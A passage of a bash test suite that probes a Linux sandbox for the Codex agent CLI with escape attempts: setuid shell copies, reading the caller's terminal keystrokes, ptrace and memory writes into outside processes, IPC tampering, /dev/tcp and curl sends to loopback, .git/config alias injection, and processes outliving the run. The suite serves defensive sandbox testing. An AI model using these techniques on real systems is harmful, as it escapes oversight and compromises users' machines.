test_kernel_fs_as_root_dev_root() { c_kernel_root root --add-dir /dev; }
test_no_userns_kernel_fs_as_root_dev_root() { no_userns c_kernel_root root --add-dir /dev; }
test_kernel_fs_as_root_config_c_root() { c_kernel_root root -c 'sandbox_workspace_write.writable_roots=["/proc","/sys"]'; }
test_no_userns_kernel_fs_as_root_config_c_root() { no_userns c_kernel_root root -c 'sandbox_workspace_write.writable_roots=["/proc","/sys"]'; }
test_kernel_fs_as_root_config_file_root() { c_kernel_root root --config-file; }
test_no_userns_kernel_fs_as_root_config_file_root() { no_userns c_kernel_root root --config-file; }
test_no_landlock_kernel_fs_as_root_slash_root() { no_landlock c_kernel_root root -C /; }
test_no_landlock_kernel_fs_as_root_proc_root() { no_landlock c_kernel_root root --add-dir /proc; }
test_no_landlock_kernel_fs_as_root_proc_sys_kernel_root() { no_landlock c_kernel_root root -C /proc/sys/kernel; }
test_kernel_fs_as_root_slash_user() { c_kernel_root user -C /; }
test_no_userns_kernel_fs_as_root_proc_user() { no_userns c_kernel_root user --add-dir /proc; }

test_setuid_binary_gains_nothing_user() {
	setup user
	cp /usr/bin/id "$T/suid-id"
	chmod 4755 "$T/suid-id"
	expect_eq "$(as user "$T/suid-id" -u)" 0 "control: the setuid copy works outside"
	expect_eq "$(sb user -- "$T/suid-id" -u)" $NOBODY "euid inside"
}

# A set-user-ID file made inside is one outside: nosuid is the sandbox's view, the
# host's mounts honour the bit. Made by root, a copy of a shell is a root shell for
# every local user; made by anyone, a way into their account. chmod, fchmod,
# open(O_CREAT) and mknod with the bits; the control also shows that the copy gives
# nobody root's euid.
c_setid() {
	setup "$1"
	# Not at the top of the workspace: without user namespaces nothing new may appear there.
	attack "$1" all "cd src; cp /bin/dash sh-copy; chmod 4755 sh-copy; chmod g+s sh-copy
		$PY -c 'import os; os.close(os.open(\"created\", os.O_CREAT | os.O_WRONLY, 0o6755))'
		$PY -c 'import os; os.mknod(\"node\", 0o102755)'
		cp /bin/dash sh-fchmod; $PY -c 'import os; os.chmod(os.open(\"sh-fchmod\", os.O_RDONLY), 0o4755)'" \
		'[ -u src/sh-copy ] || [ -g src/sh-copy ] || [ -u src/created ] || [ -g src/created ] ||
		 [ -g src/node ] || [ -u src/sh-fchmod ]'
	[ "$1" = root ] || return 0
	expect_eq "$(setpriv --reuid=$NOBODY --regid=$NOBODY --clear-groups src/sh-copy -p -c 'id -u')" 0 \
		"control: euid of nobody running the set-user-ID copy"
}
# Metadata is written too: a mode, times. Without user namespaces Landlock does not see
# these calls, and root owns root's files everywhere (chmod 666 /etc/shadow), so there
# seccomp refuses them for root.
c_metadata() {
	setup "$1"
	attack "$1" all 'chmod 666 "$1/target"; touch -d 2001-01-01 "$1/target"' \
		'[ "$(stat -c %a "$T/outside/target")" = 666 ] ||
		 [ "$(stat -c %Y "$T/outside/target")" -lt 1000000000 ]'
}
test_metadata_outside_root() { c_metadata root; }
test_metadata_outside_user() { c_metadata user; }
test_no_userns_metadata_outside_root() {
	no_userns c_metadata root
	expect_contains "$(cat "$T/sbout")" "as root: file modes, owners, times and extended attributes cannot be changed"
}

test_setid_file_root() { c_setid root; }
test_setid_file_user() { c_setid user; }
test_no_userns_setid_file_root() { no_userns c_setid root; }
test_no_userns_deep_gitdir_target_root() { no_userns c_gitdir_deep root; }
test_no_userns_worktree_common_dir_user() { no_userns c_worktree user; }
test_no_landlock_deep_gitdir_target_user() { no_landlock c_gitdir_deep user; }
test_no_landlock_worktree_common_dir_root() { no_landlock c_worktree root; }

# ---- the caller's terminal ----

# A terminal of the caller's (a pty this helper holds, owned by WHO, with keystrokes
# waiting on it): the command's stdio points elsewhere, yet it knows the path. Reading
# it would take what the user types into their shell.
PTY_HOLD='import os, sys, time
m, s = os.openpty()
name = os.ttyname(s)
os.chown(name, int(sys.argv[1]), -1)
os.write(m, b"secret-keystrokes\n")
open(sys.argv[2], "w").write(name)
time.sleep(60)'
hold_pty() {
	local uid=0
	[ "$1" = root ] || uid=$NOBODY
	start_bg "$PY" -c "$PTY_HOLD" $uid "$T/pty-name"
	wait_file "$T/pty-name"
	TTY=$(cat "$T/pty-name")
}
# Reads the terminal $1 for at most 2 s: ESCAPED when anything came.
READ_TTY='exec 3< "$1" && timeout --foreground 2 head -c 6 <&3 | grep -q . && echo ESCAPED'
c_callers_pty() {
	setup "$1"
	hold_pty "$1"
	attack "$1" all "$(printf '%s' "$READ_TTY" | sed "s|\\\$1|$TTY|")" 'in_sandbox_or_control'
}
test_callers_pty_by_path_root() { c_callers_pty root; }
test_callers_pty_by_path_user() { c_callers_pty user; }
test_no_userns_callers_pty_by_path_root() { no_userns c_callers_pty root; }
test_no_userns_callers_pty_by_path_user() { no_userns c_callers_pty user; }
test_no_landlock_callers_pty_by_path_user() { no_landlock c_callers_pty user; }

# The same terminal as the caller's controlling terminal (the sandbox started from a
# shell on it, its stdio redirected): /dev/tty must not lead to it.
CTTY_RUN='import fcntl, os, sys, termios
s = os.open(sys.argv[1], os.O_RDWR)
os.setsid()
fcntl.ioctl(s, termios.TIOCSCTTY, 0)
os.close(s)
os.execvp(sys.argv[2], sys.argv[2:])'
c_callers_ctty() {
	setup "$1"
	hold_pty "$1"
	as "$1" env -u TMPDIR ${SB_PREFIX:-} "$PY" -c "$CTTY_RUN" "$TTY" "$CODEX" sandbox --full-auto -- \
		sh -c "$(printf '%s' "$READ_TTY" | sed 's|\$1|/dev/tty|')" < /dev/null > "$T/sbout" 2>&1 || true
	escaped "$T/sbout" && fail "read the caller's terminal through /dev/tty: $(cat "$T/sbout")"
	as "$1" "$PY" -c "$CTTY_RUN" "$TTY" sh -c "$(printf '%s' "$READ_TTY" | sed 's|\$1|/dev/tty|')" \
		< /dev/null > "$T/ctlout" 2>&1 || true
	escaped "$T/ctlout" || fail "control: /dev/tty did not lead to the terminal: $(cat "$T/ctlout")"
}
test_callers_controlling_terminal_root() { c_callers_ctty root; }
test_callers_controlling_terminal_user() { c_callers_ctty user; }
test_no_userns_callers_controlling_terminal_root() { no_userns c_callers_ctty root; }
test_no_userns_callers_controlling_terminal_user() { no_userns c_callers_ctty user; }

# Through a devpts bound into a writable root (a build chroot's dev/pts), in this suite's
# private mount namespace.
c_callers_pty_in_chroot() {
	setup "$1"
	hold_pty "$1"
	mkdir -p chroot/dev/pts
	mount --bind /dev/pts chroot/dev/pts
	local in_chroot=$T/ws/chroot/dev/pts/${TTY#/dev/pts/}
	attack "$1" all "$(printf '%s' "$READ_TTY" | sed "s|\\\$1|$in_chroot|")" 'in_sandbox_or_control'
	umount chroot/dev/pts
}
test_callers_pty_through_a_chroot_root() { c_callers_pty_in_chroot root; }
test_callers_pty_through_a_chroot_user() { c_callers_pty_in_chroot user; }
test_no_userns_callers_pty_through_a_chroot_root() { no_userns c_callers_pty_in_chroot root; }
test_no_userns_callers_pty_through_a_chroot_user() { no_userns c_callers_pty_in_chroot user; }

# Through the launcher, which holds the caller's terminal while it relays the command's
# own: /proc/PPID/fd/0 (without user namespaces the launcher is the command's parent).
c_callers_pty_via_launcher() {
	setup "$1"
	hold_pty "$1"
	as "$1" env -u TMPDIR ${SB_PREFIX:-} "$CODEX" sandbox --full-auto -- \
		sh -c 'for f in /proc/$PPID/fd/0 /proc/1/fd/0; do exec 3< $f && timeout 2 head -c 6 <&3 | grep -q . && echo ESCAPED; done' \
		< "$TTY" > "$T/sbout" 2>&1 || true
	escaped "$T/sbout" && fail "read the caller's terminal through the launcher: $(cat "$T/sbout")"
	return 0
}
test_callers_pty_via_the_launcher_root() { c_callers_pty_via_launcher root; }
test_no_userns_callers_pty_via_the_launcher_root() { no_userns c_callers_pty_via_launcher root; }
test_no_userns_callers_pty_via_the_launcher_user() { no_userns c_callers_pty_via_launcher user; }

# ---- other processes ----

c_ptrace() {
	setup "$1"
	outside_process "$1" sleep 60
	attack "$1" all "\"$ATTACK\" ptrace $VICTIM && echo ESCAPED" 'in_sandbox_or_control'
	[ -n "${SB_PREFIX:-}" ] && return 0 # pid 1 is the host's init without a pid namespace
	sb "$1" --full-auto -- "$ATTACK" ptrace 1 > "$T/sbout" 2>&1 && fail "ptrace of init worked"
	return 0
}
test_ptrace_outside_process_root() { c_ptrace root; }
test_ptrace_outside_process_user() { c_ptrace user; }

vm_attack() {
	local who=$1 how=$2
	setup "$who"
	outside_process "$who" "$ATTACK" victim "$T/outside/addr"
	for i in $(seq 100); do [ -s "$T/outside/addr" ] && break; sleep 0.02; done
	addr=$(cat "$T/outside/addr")
	sb "$who" --full-auto -- "$ATTACK" "$how" "$VICTIM" "$addr" > "$T/sbout" 2>&1 &&
		fail "$how reached a process outside: $(cat "$T/sbout")"
	if [ -z "${SB_PREFIX:-}" ]; then # our own init; without a pid namespace, the host's
		sb "$who" --full-auto -- "$ATTACK" "$how" 1 "$addr" > "$T/sbout" 2>&1 &&
			fail "$how reached init: $(cat "$T/sbout")"
	fi
	as "$who" "$ATTACK" "$how" "$VICTIM" "$addr" > "$T/ctlout" 2>&1 ||
		fail "control: $how did not work outside: $(cat "$T/ctlout")"
	wait "$VICTIM" || fail "the victim was not reached by the control"
}
test_process_vm_writev_outside_root() { vm_attack root vm-write; }
test_process_vm_writev_outside_user() { vm_attack user vm-write; }
test_write_proc_pid_mem_outside_root() { vm_attack root proc-mem; }
test_write_proc_pid_mem_outside_user() { vm_attack user proc-mem; }

c_signal() {
	setup "$1"
	outside_process "$1" sleep 60
	sb "$1" --full-auto -- sh -c "kill -TERM $VICTIM; kill -TERM -$VICTIM" > "$T/sbout" 2>&1 || true
	kill -0 "$VICTIM" || fail "a process outside was killed from inside"
	as "$1" kill -TERM "$VICTIM"
	sleep 0.1
	! kill -0 "$VICTIM" 2>/dev/null || fail "control: kill did not work outside"
}
test_signal_outside_process_root() { c_signal root; }
test_signal_outside_process_user() { c_signal user; }

# Limits are set on a process by pid (prlimit), with the same rule as a signal (same
# user) but no Landlock scope: a file-descriptor limit of 0 starves the victim (a CPU
# limit of 0 kills it). Without a pid namespace the victim can be named.
c_prlimit() {
	setup "$1"
	outside_process "$1" sh -c 'while : < /dev/null; do sleep 0.05; done'
	sb "$1" --full-auto -- prlimit --pid "$VICTIM" --nofile=0:0 > "$T/sbout" 2>&1 || true
	sleep 0.3
	kill -0 "$VICTIM" || fail "a process outside was starved from inside: $(cat "$T/sbout")"
	as "$1" prlimit --pid "$VICTIM" --nofile=0:0
	for i in $(seq 100); do kill -0 "$VICTIM" 2>/dev/null || break; sleep 0.02; done
	! kill -0 "$VICTIM" 2>/dev/null || fail "control: prlimit did not starve the victim"
}
test_prlimit_outside_process_root() { c_prlimit root; }
test_prlimit_outside_process_user() { c_prlimit user; }
test_no_userns_prlimit_root() { no_userns c_prlimit root; }
test_no_userns_prlimit_user() { no_userns c_prlimit user; }

# System V shared memory and POSIX message queues belong to the IPC namespace: without
# one of its own the command would write into a segment a process outside works with
# (or remove its queue).
SHM_PY='import ctypes, os, sys
l = ctypes.CDLL(None, use_errno=True)
l.shmat.restype = ctypes.c_void_p
key = int(sys.argv[2])
if sys.argv[1] == "hold":
    i = l.shmget(key, 4096, 0o1600)
    p = l.shmat(i, None, 0)
    ctypes.memmove(p, b"intact", 6)
    l.mq_open(b"/codex-escape-%d" % key, os.O_CREAT | os.O_RDWR, 0o600, None)
    open(sys.argv[3], "w").write("ready")
    for _ in range(500):
        if ctypes.string_at(p, 5) == b"PWNED": print("PWNED"); break
        os.system("sleep 0.01")
    l.shmctl(i, 0, None)  # IPC_RMID
    l.mq_unlink(b"/codex-escape-%d" % key)
else:
    i = l.shmget(key, 0, 0)
    p = l.shmat(i, None, 0) if i >= 0 else None
    if p not in (None, 2**64 - 1): ctypes.memmove(p, b"PWNED", 5); print("ESCAPED")
    if l.mq_unlink(b"/codex-escape-%d" % key) == 0: print("ESCAPED")'
c_sysv_ipc() {
	setup "$1"
	local key=$((0x5eed0000 + $$ % 65536))
	[ "$1" = root ] || chown $NOBODY "$T/outside"
	outside_process "$1" "$PY" -c "$SHM_PY" hold $key "$T/outside/ready"
	wait_file "$T/outside/ready"
	sb "$1" --full-auto -- "$PY" -c "$SHM_PY" attack $key > "$T/sbout" 2>&1 || true
	escaped "$T/sbout" && fail "reached the IPC objects of a process outside: $(cat "$T/sbout")"
	as "$1" "$PY" -c "$SHM_PY" attack $key > "$T/ctlout" 2>&1
	escaped "$T/ctlout" || fail "control: the IPC objects were not reached: $(cat "$T/ctlout")"
	wait "$VICTIM" || true
}
test_sysv_ipc_of_outside_process_root() { c_sysv_ipc root; }
test_sysv_ipc_of_outside_process_user() { c_sysv_ipc user; }
test_no_userns_sysv_ipc_root() { no_userns c_sysv_ipc root; }
test_no_userns_sysv_ipc_user() { no_userns c_sysv_ipc user; }

# Nothing of the command outlives the run, not even what left its process group and
# session (setsid) and double-forked: it would go on writing into the workspace after
# the caller looked at the result. With user namespaces the pid namespace ends with the
# command; without, the launcher must find such processes.
c_leftover() {
	setup "$1"
	local script='setsid sh -c "sleep 1; echo late > src/late" > /dev/null 2>&1 < /dev/null &
		sleep 0.2'
	sb "$1" --full-auto -- sh -c "$script" > "$T/sbout" 2>&1 < /dev/null || true
	sleep 1.5
	[ ! -e src/late ] || fail "a process of the command outlived the sandbox"
	as "$1" sh -c "$script"
	wait_file src/late # control: outside a sandbox it does outlive its parent
}
test_nothing_outlives_the_run_root() { c_leftover root; }
test_no_userns_nothing_outlives_the_run_root() { no_userns c_leftover root; }
test_no_userns_nothing_outlives_the_run_user() { no_userns c_leftover user; }

c_io_uring() {
	setup "$1"
	attack "$1" all "\"$ATTACK\" io-uring && echo ESCAPED" 'in_sandbox_or_control'
}
test_io_uring_root() { c_io_uring root; }
test_io_uring_user() { c_io_uring user; }

c_bpf() {
	setup "$1"
	attack "$1" root "\"$ATTACK\" bpf && echo ESCAPED" 'in_sandbox_or_control'
}
test_bpf_root() { c_bpf root; }
test_bpf_user() { c_bpf user; }

# ---- network ----

c_tcp() {
	setup "$1"
	listen "$1" tcp 0
	attack "$1" all "curl -s -m 3 -d PWNED http://127.0.0.1:$PORT/; bash -c 'echo PWNED > /dev/tcp/127.0.0.1/$PORT'" 'reached'
}
test_tcp_to_host_loopback_service_root() { c_tcp root; }
test_tcp_to_host_loopback_service_user() { c_tcp user; }

c_udp() {
	setup "$1"
	listen "$1" udp 0
	attack "$1" all "\"$ATTACK\" udp-send $PORT; sleep 0.2" 'reached'
}
test_udp_send_root() { c_udp root; }
test_udp_send_user() { c_udp user; }

c_dns() {
	setup "$1"
	listen "$1" dns 0
	attack "$1" all "$PY -c '
import socket
q = b\"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01\"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
s.sendto(q, (\"127.0.0.1\", $PORT)); print(\"answered\" if s.recv(512)[:2] == q[:2] else \"no\")'" \
		'reached || grep -q answered "$T/sbout"'
	grep -q answered "$T/ctlout" || fail "control: no DNS answer outside"
}
test_dns_query_root() { c_dns root; }
test_dns_query_user() { c_dns user; }

c_socket() {
	setup "$1"
	attack "$1" "$2" "\"$ATTACK\" socket $3 && echo ESCAPED" 'in_sandbox_or_control'
}
test_raw_socket_root() { c_socket root root "inet raw 1"; }
test_raw_socket_user() { c_socket user root "inet raw 1"; }
test_packet_socket_root() { c_socket root root "packet raw"; }
test_packet_socket_user() { c_socket user root "packet raw"; }
test_netlink_socket_root() { c_socket root all "netlink raw 0"; }
test_netlink_socket_user() { c_socket user all "netlink raw 0"; }
test_inet6_socket_root() { c_socket root all "inet6 stream"; }
test_inet6_socket_user() { c_socket user all "inet6 stream"; }

c_unix() {
	setup "$1"
	listen "$1" "$2" "$3"
	attack "$1" all "\"$ATTACK\" $4 $5; sleep 0.2" 'reached'
}
test_unix_socket_of_host_service_root() { c_unix root unix-stream "$T/outside/daemon.sock" unix-connect "$T/outside/daemon.sock"; }
test_unix_socket_of_host_service_user() { c_unix user unix-stream "$T/outside/daemon.sock" unix-connect "$T/outside/daemon.sock"; }
test_unix_socket_inside_writable_root_root() { c_unix root unix-stream "$T/ws/agent.sock" unix-connect "$T/ws/agent.sock"; }
test_unix_socket_inside_writable_root_user() { c_unix user unix-stream "$T/ws/agent.sock" unix-connect "$T/ws/agent.sock"; }
test_unix_datagram_sendto_root() { c_unix root unix-dgram "$T/outside/log.sock" unix-sendto "$T/outside/log.sock"; }
test_unix_datagram_sendto_user() { c_unix user unix-dgram "$T/outside/log.sock" unix-sendto "$T/outside/log.sock"; }
test_unix_socketpair_sendmsg_by_name_root() { c_unix root unix-dgram "$T/outside/log.sock" unix-pair-sendmsg "$T/outside/log.sock"; }
test_unix_socketpair_sendmsg_by_name_user() { c_unix user unix-dgram "$T/outside/log.sock" unix-pair-sendmsg "$T/outside/log.sock"; }
test_abstract_unix_socket_root() { c_unix root abstract "codex-escape-$$-r" unix-connect "@codex-escape-$$-r"; }
test_abstract_unix_socket_user() { c_unix user abstract "codex-escape-$$-u" unix-connect "@codex-escape-$$-u"; }

# ---- the same core attacks without user namespaces (Landlock + seccomp only) ----

no_userns() { SB_PREFIX="$DENY userns --"; "$@"; }
test_no_userns_write_outside_root() { no_userns c_write_outside root; }
test_no_userns_write_outside_user() { no_userns c_write_outside user; }
test_no_userns_symlink_root() { no_userns c_symlink_new root; }
test_no_userns_hard_link_root() { no_userns c_hardlink root; }
test_no_userns_rename_root() { no_userns c_rename_out root; }
test_no_userns_proc_pid_cwd_root() { no_userns c_proc_pid_cwd root; }
test_no_userns_proc_pid_cwd_user() { no_userns c_proc_pid_cwd user; }
test_no_userns_reopen_stdin_root() { no_userns c_reopen_stdin root; }
test_no_userns_git_config_root() { no_userns c_git_config root; }
test_no_userns_git_config_user() { no_userns c_git_config user; }
test_no_userns_git_hook_rename_root() { no_userns c_git_hook_rename root; }
test_no_userns_codex_create_root() { no_userns c_codex_create root; }
test_no_userns_codex_symlink_root() { no_userns c_codex_symlink root; }
test_no_userns_proc_sys_root() { no_userns c_proc_sys root; }
test_no_userns_ptrace_root() { no_userns c_ptrace root; }
test_no_userns_ptrace_user() { no_userns c_ptrace user; }
test_no_userns_vm_write_user() { no_userns vm_attack user vm-write; }
test_no_userns_proc_mem_root() { no_userns vm_attack root proc-mem; }
test_no_userns_signal_root() { no_userns c_signal root; }
test_no_userns_signal_user() { no_userns c_signal user; }
test_no_userns_tcp_root() { no_userns c_tcp root; }
test_no_userns_unix_socket_user() { no_userns c_unix user unix-stream "$T/outside/daemon.sock" unix-connect "$T/outside/daemon.sock"; }
test_no_userns_abstract_socket_root() { no_userns c_unix root abstract "codex-escape-$$-n" unix-connect "@codex-escape-$$-n"; }
test_no_userns_chroot_root() { no_userns c_chroot root; }
test_no_userns_setns_root() { no_userns c_setns root; }

# ---- a kernel without the new mount API (before 5.12): Landlock and seccomp ----

no_mountapi() { SB_PREFIX="$DENY mountapi --"; "$@"; }
test_no_mountapi_write_outside_root() { no_mountapi c_write_outside root; }
test_no_mountapi_write_outside_user() { no_mountapi c_write_outside user; }
test_no_mountapi_git_hook_rename_root() { no_mountapi c_git_hook_rename root; }
test_no_mountapi_codex_create_user() { no_mountapi c_codex_create user; }
test_no_mountapi_proc_sys_root() { no_mountapi c_proc_sys root; }
test_no_mountapi_ptrace_user() { no_mountapi c_ptrace user; }
test_no_mountapi_tcp_root() { no_mountapi c_tcp root; }
test_no_mountapi_rename_workspace_parent_user() { no_mountapi c_rename_parent user; }
test_no_mountapi_callers_pty_by_path_user() { no_mountapi c_callers_pty user; }

# ---- user namespaces without Landlock (a kernel without it): the mount view alone ----

no_landlock() { SB_PREFIX="$DENY landlock --"; "$@"; }

# Init (pid 1 of the sandbox) is a fork of the launcher, which opened the .codex
# placeholder and got the caller's stdio before the mount view existed: those
# descriptors point into the host's mounts. Reopened through /proc/1/fd, a directory
# there is a way out of the view (chmod it, then walk up from it). The control shows the
# technique on a process outside holding such a descriptor.
c_init_fds() {
	setup "$1"
	local script='for f in /proc/$P/fd/*; do
		chmod u+rwx "$f"; echo pwned > "$f/../../outside/target"; echo pwned > "$f/../target"
		echo "[alias] x = !sh" >> "$f/../.git/config"; done 2>/dev/null'
	sb "$1" --full-auto -- env P=1 sh -c "$script" > "$T/sbout" 2>&1 < /dev/null || true
	expect_outside_intact
	grep -q alias "$T/ws/.git/config" && fail "wrote .git/config through init's descriptors"
	[ ! -e "$T/ws/.codex" ] || fail "the placeholder was left behind: $(ls -ld "$T/ws/.codex")"
	mkdir -m 0400 "$T/outside/sub"
	[ "$1" = root ] || chown $NOBODY "$T/outside/sub"
	outside_process "$1" sh -c 'exec sleep 60 3< sub'
	for i in $(seq 100); do [ -e /proc/$VICTIM/fd/3 ] && break; sleep 0.02; done
	as "$1" env P=$VICTIM sh -c "$script" > "$T/ctlout" 2>&1 < /dev/null || true
	pwned "$T/outside/target" || fail "control: /proc/PID/fd did not lead outside: $(cat "$T/ctlout")"
}
test_no_landlock_init_descriptors_root() { no_landlock c_init_fds root; }
test_no_landlock_init_descriptors_user() { no_landlock c_init_fds user; }
test_no_landlock_write_outside_root() { no_landlock c_write_outside root; }
test_no_landlock_write_outside_user() { no_landlock c_write_outside user; }
test_no_landlock_symlink_root() { no_landlock c_symlink_new root; }
test_no_landlock_hard_link_user() { no_landlock c_hardlink user; }
test_no_landlock_rename_root() { no_landlock c_rename_out root; }
test_no_landlock_proc_pid_cwd_root() { no_landlock c_proc_pid_cwd root; }
test_no_landlock_proc_pid_cwd_user() { no_landlock c_proc_pid_cwd user; }
test_no_landlock_git_config_root() { no_landlock c_git_config root; }
test_no_landlock_git_hook_rename_user() { no_landlock c_git_hook_rename user; }
test_no_landlock_git_replace_root() { no_landlock c_git_replace root; }
test_no_landlock_gitdir_target_user() { no_landlock c_gitdir_target user; }
test_no_landlock_codex_create_root() { no_landlock c_codex_create root; }
test_no_landlock_codex_symlink_user() { no_landlock c_codex_symlink user; }
test_no_landlock_agents_root() { no_landlock c_agents root; }
test_no_landlock_proc_sys_root() { no_landlock c_proc_sys root; }
test_no_landlock_sysfs_root() { no_landlock c_sysfs root; }
test_no_landlock_ptrace_user() { no_landlock c_ptrace user; }
test_no_landlock_proc_mem_root() { no_landlock vm_attack root proc-mem; }
test_no_landlock_signal_user() { no_landlock c_signal user; }
test_no_landlock_tcp_root() { no_landlock c_tcp root; }
test_no_landlock_unix_socket_user() { no_landlock c_unix user unix-stream "$T/outside/daemon.sock" unix-connect "$T/outside/daemon.sock"; }
test_no_landlock_abstract_socket_root() { no_landlock c_unix root abstract "codex-escape-$$-l" unix-connect "@codex-escape-$$-l"; }
test_no_landlock_setns_user() { no_landlock c_setns user; }
test_no_landlock_open_by_handle_root() { no_landlock c_open_by_handle root; }

run_tests
